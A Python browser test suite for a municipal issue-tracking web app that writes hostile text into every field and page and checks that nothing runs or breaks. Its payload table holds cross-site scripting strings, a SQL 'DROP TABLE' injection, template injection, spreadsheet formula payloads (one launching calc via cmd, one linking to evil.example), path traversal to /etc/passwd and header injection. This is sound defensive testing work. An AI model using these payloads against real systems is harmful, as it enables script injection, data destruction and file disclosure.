"""Hostile text in every field that takes text, on every page that shows it: nothing runs and nothing breaks.

What a form would refuse is written past it: what once got in another way must be shown safely too.
"""

import csv
import io
import json
import re
from contextlib import suppress
from datetime import timedelta
from urllib.parse import quote

import pytest
from sqlalchemy import select
from werkzeug.exceptions import NotFound

from server.clock import system_clock
from server.config import load
from server.db import Store
from server.errors import ServerError
from server.formats.delimited import FORMULA_STARTS
from server.models import (
    Area,
    CalendarDay,
    CalendarYear,
    CategoryEdit,
    Department,
    Person,
    SavedView,
    SignedIn,
    Token,
)
from server.services import cares, gazetteer, intake, issues, visits
from server.services.cares import NewCare
from server.services.drafts import LIMITS, Draft
from server.services.gazetteer import NewPlace
from server.services.visits import NewVisit
from server.uids import uuid7
from server.upgrade import upgrade
from server.workflow import WorkflowError
from tests.browser.conftest import Watch, settle
from tests.browser.serving import SECRET, serving
from tests.personas import PASSWORD, build_town
from tests.pictures import sent

pytestmark = pytest.mark.browser
RUN = "window.__hit=(window.__hit||0)+1"
TEXTS = {
    "element": f"<script>{RUN}</script><img src=x onerror={RUN}>",
    "attribute": f'" autofocus onfocus="{RUN}" onmouseover="{RUN}" x="',
    "other quotes": f"' autofocus onfocus='{RUN}' x='",
    "string of a script": f"';{RUN};//\";{RUN};//\\",
    "template literal": f"${{{RUN}}}`;{RUN};`${{{RUN}}}",
    "block of JSON": f"</script><script>{RUN}</script>\u2028\u2029<!--",
    "drawing": f"<svg/onload={RUN}><animate onbegin={RUN} attributeName=x></svg>",
    "address": f"javascript:{RUN}//%0a{RUN}",
    "style": "</style><style>*{display:none!important}</style>;}*{color:expression(1)}",
    "closing everything": "--></title></textarea></select></template></table></div></main></body>",
    "markup of the kit": f'<a hx-on:load="{RUN}" hx-get="//evil.example/" hx-trigger="load">x</a>',
    "database": "'); DROP TABLE issue; -- \" OR 1=1",
    "template": "{{7*191}}{% for x in ().__class__.__mro__ %}x{% endfor %}{# #}",
    "words with places": "%(number)s {number} {0.__class__} {value!r} %s %n",
    "formula": '=HYPERLINK("//evil.example","x")',
    "another formula": "+cmd|' /C calc'!A0",
    "one more formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "path": "../../../../etc/passwd\\..\\..%2e%2e%2f",
    "header": "x\r\nSet-Cookie: hit=1\r\n\r\n<b>",
    "direction": "\u202etxt.exe\u202c \u2066\u200f\u061c هذا \u2069",
    "nothing to see": "\u200b\u200d\ufeff\u2060零\u00ad宽",
    "marks": "Z" + "\u0351\u036b\u0343\u0325" * 12 + "𠮷👨‍👩‍👧‍👦",
    "no break": "W" * 3000,
    "long": "很长的一句话，" * 400,
    "nought": "a\x00b",
    "half a character": "a\ud800b",
}
NAMES_OF_REPORTERS = [TEXTS[name] for name in ("element", "attribute", "template literal", "block of JSON")]
AGENT = f"Mozilla/5.0 Chrome/120 {TEXTS['element']} {TEXTS['attribute']} {TEXTS['template']}"
NO_PAGE = {
    "admin_audit.export", "admin_calendar.download", "docs.api", "health.healthz", "photos.file", "photos.thumb",
    "statics.file", "tablet.script", "tiles.basemap", "bulletin.heat", "bulletin.word", "bulletin_template.download",
    "evaluation.export", "exports.file", "exports.now", "tablet.manifest", "tablet.shell", "tablet.version", "tablet.worker",
    "tablet_ground.ground", "trust.certificate", "trust.text", "visits.export",
}  # fmt: skip
"""What is no page, or says nothing but the program's own words; all of the API and of sign-in elsewhere beside."""
SHORT = TEXTS["element"] + TEXTS["template literal"]
LOOK = """() => ({
    hit: window.__hit || 0, refused: window.__refused, made: document.querySelectorAll('img[src="x"], [hx-on\\\\:load]').length,
    wide: document.documentElement.scrollWidth - innerWidth, hidden: getComputedStyle(document.body).display === 'none',
    over: [...document.querySelectorAll("main *, header *, body > *")].filter((one) => one.getBoundingClientRect().right > innerWidth + 1 && !one.closest(".leaflet-container")).slice(-3).map((one) => one.tagName + "." + one.className + " " + Math.round(one.getBoundingClientRect().right)),
    counted: document.body.innerText.includes('1337'), main: document.querySelectorAll('main').length,
})"""
WATCH = """window.__refused = []; document.addEventListener('securitypolicyviolation',
    (event) => window.__refused.push(event.violatedDirective + ' ' + event.blockedURI));"""


def fit(text, limit):
    return text[:limit]


def kept(store, work):
    """Do something in a transaction of its own; tell whether it was taken."""
    with suppress(ServerError, WorkflowError, UnicodeError), store.write() as tx:
        work(tx)
        return True
    return False


def report(store, town, place, text):
    """Report an issue of this text in all its fields, of those at least that take it; gives its number."""
    fields = {name: fit(text, LIMITS[name]) for name in
              ("description", "place_text", "reporter_name", "reporter_phone", "external_number") if name in LIMITS}  # fmt: skip
    fields["reporter_name"] = "王芳"  # else it is masked in the words
    spot = {"lon": 122.0112 + place % 5 / 1000, "lat": 37.0112 + place // 5 / 1000}
    taken = []

    def write(given):
        def work(tx):
            taken.append(
                intake.report(
                    tx, town.actors["dispatcher_qian"], Draft("heating", "phone", **spot, **given)
                ).number
            )

        return work

    if not kept(store, write(fields)):
        for name, said in fields.items():
            kept(store, write({"description": "有一处写不进"} | {name: said}))
    return taken


def report_names(store, town):
    """Report issues whose reporters have hostile names; gives their numbers."""
    with store.write() as tx:
        drafts = [Draft("heating", "phone", "暖气不热", lon=122.0112, lat=37.0112, reporter_name=fit(name, LIMITS["reporter_name"]))
                  for name in NAMES_OF_REPORTERS]  # fmt: skip
        return [one.number for one in intake.report_many(tx, town.actors["dispatcher_qian"], drafts)]


def act_on(store, town, numbers):
    """Say every text in every step of the loop that takes words."""
    day = (system_clock() + timedelta(days=3)).strftime("%Y-%m-%d")
    one, two, three, four = numbers[:4]
    steps = [(one, "worker_lin", "take", {})]
    steps += [(one, "worker_lin", "note", {"text": text}) for text in TEXTS.values()]
    steps += [(one, "worker_lin", "ask_extend", {"until": day, "reason": SHORT}),
              (one, "worker_lin", "whistle", {"departments": ["heating"], "answer_by": day, "matter": SHORT}),
              (one, "handler_sun", "answer", {"result": "done", "text": SHORT}),
              (one, "supervisor_li", "supervise", {"text": SHORT}),
              (two, "worker_lin", "take", {}),
              (two, "worker_lin", "ask_suspend", {"review_date": day, "reason": SHORT, "told": SHORT}),
              (three, "worker_lin", "take", {}),
              (three, "worker_lin", "finish", {"outcome": SHORT, "quantity": 1, "unit": SHORT[:8]}),
              (four, "worker_lin", "return", {"reason": SHORT}),
              (four, "dispatcher_qian", "reject", {"reason": SHORT, "told": SHORT})]  # fmt: skip
    return sum(kept(store, lambda tx, step=step: issues.act(tx, town.actors[step[1]], step[0], step[2], step[3]))
               for step in steps)  # fmt: skip


def look_in_on(store, town):
    """Say every text in visits and of people who are looked in on."""
    worker, today = town.actors["worker_lin"], system_clock().date()
    for place, text in enumerate(TEXTS.values()):
        spot = (122.0112 + place % 5 / 1000, 37.0112 + place // 5 / 1000)
        where, said = fit(text, visits.LENGTHS["where"]), fit(text, visits.LENGTHS["text"])
        visit = NewVisit(uuid7(system_clock()), "daily", "household", "issue", where, said, spot)
        care = NewCare(
            uuid7(system_clock()), "alone", 7, fit(text, 20), fit(text, 60), fit(text, 60), today, spot
        )
        kept(store, lambda tx, visit=visit: visits.record(tx, worker, visit))
        kept(store, lambda tx, care=care: cares.agree(tx, worker, care))


def rename(store):
    """Give everything that has a name a hostile one, past every form."""
    texts = [
        text for name, text in TEXTS.items() if name not in ("nought", "half a character", "no break", "long")
    ]
    with store.write() as tx:
        rows = [
            *tx.session.scalars(select(Area)),
            *tx.session.scalars(select(Person)),
            *tx.session.scalars(select(Department)),
        ]
        for place, row in enumerate(rows):
            row.name = fit(texts[place % len(texts)], 30)
        first = tx.session.scalars(select(Person.id).where(Person.login == "supervisor_li")).one()
        for place, text in enumerate(texts):
            tx.session.add(SavedView(person_id=first, name=fit(text, 30), query={"q": fit(text, 30)}))
            tx.session.add(
                Token(
                    person_id=first,
                    name=fit(text, 30),
                    digest=f"{place:064d}",
                    scopes="read",
                    created_at=tx.now,
                )
            )
        tx.session.add(
            CategoryEdit(code="dogs", row={"name": fit(SHORT, 40), "group": fit(TEXTS["attribute"], 40)})
        )
        later = {"created_at": tx.now, "seen_at": tx.now, "expires_at": tx.now + timedelta(days=1)}
        for place, text in enumerate(texts):
            tx.session.add(SignedIn(digest=f"{place:064d}", person_id=first, method="password", address="192.0.2.1",
                                    agent=fit("Chrome/120 Windows " + text, 200), **later))  # fmt: skip
        year = system_clock().year
        tx.session.add(CalendarYear(year=year, file_name=SHORT, at=tx.now))
        tx.session.add(CalendarDay(day=system_clock().date(), kind="holiday", name=fit(SHORT, 64)))
        gazetteer.keep(tx, [NewPlace(str(n), "甲" + text[:40], "building", text[:80], 122.013 + n / 1e4, 37.013)
                            for n, text in enumerate(texts)])  # fmt: skip


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Address of a town in which all words are hostile, and the numbers of its issues."""
    folder = tmp_path_factory.mktemp("hostile")
    store = Store(load({"dir": str(folder), "secret_key": SECRET}, environment={}))
    upgrade(store)
    town = build_town(store)
    numbers = [
        number for place, text in enumerate(TEXTS.values()) for number in report(store, town, place, text)
    ]
    assert len(numbers) >= len(TEXTS) - 2
    assert act_on(store, town, numbers) >= len(TEXTS)
    numbers += report_names(store, town)
    look_in_on(store, town)
    rename(store)
    with store.read() as tx:
        uid = tx.session.scalar(select(Person.uid).where(Person.login == "worker_lin"))
        token = tx.session.scalar(select(Token.id).where(Token.digest == "0" * 64))
    store.close()
    with serving(folder) as address:
        yield address, numbers, uid, token


def pages(numbers, uid, token):
    """Who looks at what: every page there is, see the test below."""
    strange = quote(TEXTS["element"] + TEXTS["template"], safe="")
    yield "supervisor_li", (
        "/issues", "/issues?sort=oldest", *(f"/issues/{number}" for number in numbers[:5]), f"/issues?q={strange}",
        f"/issues/bulk?action=note&n={numbers[0]}&n={numbers[5]}", "/issues/outcomes", "/supervision", "/triage", "/areas",
        "/duties", f"/duties/people/{uid}", "/duties/areas/990101001001008", "/regrid", "/issues/new", "/issues/talk-day",
        "/map?view=open", "/admin/limits", "/admin/calendar", "/account", "/account/second", "/privacy", f"/privacy?number={numbers[-1]}",
        f"/issues/bulk/{32 * '0'}", f"/duties/people/{uid}/hand-over", f"/duties/people/{uid}/leaving", f"/issues/{strange}", f"/{strange}",
        "/board", "/board/wall?names=1", "/bulletin?period=year", "/bulletin/template", "/exports", "/exports/new", "/hotspots",
        f"/hotspots/inspect?key={strange}", "/evaluation", "/evaluation/preview", f"/evaluation/{uid}", "/evaluation/appeals",
        f"/evaluation/{uid}/units/{strange}", f"/hotspots?area={strange}", f"/board?area={strange}", f"/bulletin?area={strange}",
        f"/issues?state={strange}", f"/issues?area={strange}", "/visits", f"/visits?area={strange}", f"/issues?sort={strange}", f"/duties/people/{strange}",
    )  # fmt: skip
    yield "admin_wu", (
        "/admin", "/admin/people", "/admin/people/worker_lin", "/admin/tokens", "/admin/audit", "/admin/categories",
        "/admin/categories/dogs", "/admin/departments", "/admin/departments/heating", "/admin/new-person",
        "/admin/people/supervisor_li", "/admin/areas", "/admin/areas/990101001001008", f"/admin/tokens/{token}/revoke", "/admin/limits/dogs",
        "/admin/new-category", "/admin/new-department",
    )  # fmt: skip
    yield "worker_lin", ("/", "/t/", "/t/#tasks", "/t/#report", "/t/#visits", f"/issues/{numbers[0]}")
    yield "handler_sun", ("/",)
    yield "", ("/t/trust", f"/reset/{strange}", f"/sign-in?next={strange}", f"/sign-in/code?next={strange}")


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_every_page_is_looked_at_here(app):
    ways = app.url_map.bind("localhost")
    looked = set()
    for _login, paths in pages(["20260101-00001"] * 6, uuid7(system_clock()), 1):
        for path in paths:
            with suppress(NotFound):
                looked.add(ways.match(path.partition("?")[0].partition("#")[0])[0])
    known = {rule.endpoint for rule in app.url_map.iter_rules() if "GET" in rule.methods}
    known -= {one for one in known if one.startswith(("api_", "oidc."))}
    assert (sorted(known - looked - NO_PAGE), sorted(NO_PAGE - known)) == ([], [])


def sign_in(page, address, login):
    page.context.clear_cookies()
    if not login:
        return
    page.goto(f"{address}/sign-in?next={quote('/account' + chr(34) + TEXTS['header'])}")
    page.fill("[name=login]", login)
    page.fill("[name=password]", PASSWORD)
    page.click("form[action^='/sign-in'] button")
    page.wait_for_url(lambda url: "/sign-in" not in url)


def test_hostile_text_in_every_field_runs_nowhere_and_breaks_no_page(hostile, chromium):
    address, numbers, uid, token = hostile
    context = chromium.new_context(
        user_agent=AGENT, viewport={"width": 1366, "height": 768}, locale="zh-CN", service_workers="block"
    )
    context.add_init_script(WATCH)
    page = context.new_page()
    # 401: what a page still asked for when the next persona signed in
    watch = Watch(address, expected=("404", "405", "422", "400", "403", "401"))
    watch.over(page)
    wrong, seen = [], []

    def look_at(login, path):
        look = page.evaluate(LOOK)
        seen.append(path)
        over = look.pop("over")
        if look != {"hit": 0, "refused": [], "made": 0, "wide": min(look["wide"], 0), "hidden": False,
                    "counted": False, "main": 1}:  # fmt: skip
            wrong.append((login, path[:40], look, over))

    for login, paths in pages(numbers, uid, token):
        sign_in(page, address, login)
        for path in paths:
            page.goto(f"{address}{path}")
            settle(page, watch)
            if path.startswith("/map"):
                look_at_the_map(page, numbers)
            look_at(login, path)
        if login == "worker_lin":
            for name in acted(page, address, watch, numbers):
                look_at(login, name)
        if login == "supervisor_li":
            shown(page, address, watch)
            exported(context, address)
    assert not wrong, "\n".join(map(str, wrong))
    assert len(seen) > 40
    assert not [one for one in context.cookies() if one["name"] == "hit"]
    assert (watch.complaints, watch.dialogs, watch.outside) == ([], [], [])
    context.close()


def acted(page, address, watch, numbers):
    """Show an issue whole; send photos, and what is none, under hostile names; names each page that answers."""
    page.goto(f"{address}/issues/{numbers[-4]}")
    page.click("form[action$='/unmask'] button")
    settle(page, watch)
    assert TEXTS["element"][:20] in page.locator("main").inner_text()
    yield "shown whole"
    for name, data in (("photo", sent()), ("no photo", b"none")):
        page.goto(f"{address}/issues/{numbers[0]}")
        files = [{"name": one + ".jpg", "mimeType": "image/jpeg", "buffer": data}
                 for one in (TEXTS["attribute"], TEXTS["markup of the kit"].replace("/", "_"))]  # fmt: skip
        page.set_input_files("#photos input[name=photos]", files)
        page.eval_on_selector("#photos form", "(form) => form.requestSubmit()")
        settle(page, watch)
        yield name


def look_at_the_map(page, numbers):
    """Open what a click, a hover and a search would."""
    detail = {"kind": "issue", "number": numbers[0]}
    page.evaluate("(detail) => document.dispatchEvent(new CustomEvent('map:choose', { detail }))", detail)
    page.wait_for_selector("[data-module=map-drawer] .drawer-text")
    page.fill(".search input", "990101")
    page.wait_for_selector(".search-list li[role=option]")


def shown(page, address, watch):
    """Look whether words arrive as they were said: nothing cut, doubled or escaped twice."""
    page.goto(f"{address}/issues?sort=oldest")
    settle(page, watch)
    told = page.locator("table.rows").inner_text()
    for name in (
        "element",
        "template literal",
        "template",
        "words with places",
        "formula",
        "path",
        "database",
    ):
        assert TEXTS[name][:20] in told, (name, told)


def exported(context, address):
    """Look at the spreadsheet: no cell begins a formula, each row has its columns."""
    answer = context.request.get(f"{address}/api/v1/issues.csv")
    assert re.fullmatch(r'attachment; filename="?[\w.-]+"?', answer.headers["content-disposition"])
    heading, *rows = csv.reader(io.StringIO(answer.body().decode("utf-8-sig"), newline=""))
    assert len(rows) >= len(TEXTS) - 2
    assert {len(row) for row in rows} == {len(heading)}
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    told = json.loads(context.request.get(f"{address}/api/v1/issues?limit=100").body())
    assert {TEXTS["template"]} <= {one["summary"] for one in told["items"]}
